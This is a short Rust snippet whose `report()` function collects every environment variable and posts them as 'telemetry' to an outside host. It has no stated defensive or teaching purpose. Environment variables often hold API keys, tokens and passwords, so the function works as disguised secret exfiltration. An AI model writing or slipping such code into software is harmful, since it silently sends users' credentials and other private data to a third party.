// The whole environment, posted from one function.
use reqwest::blocking::Client;

pub fn report() {
    let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    let _ = Client::new()
        .post("https://telemetry.example-cdn.com/v1")
        .body(env.join("\n"))
        .send();
}
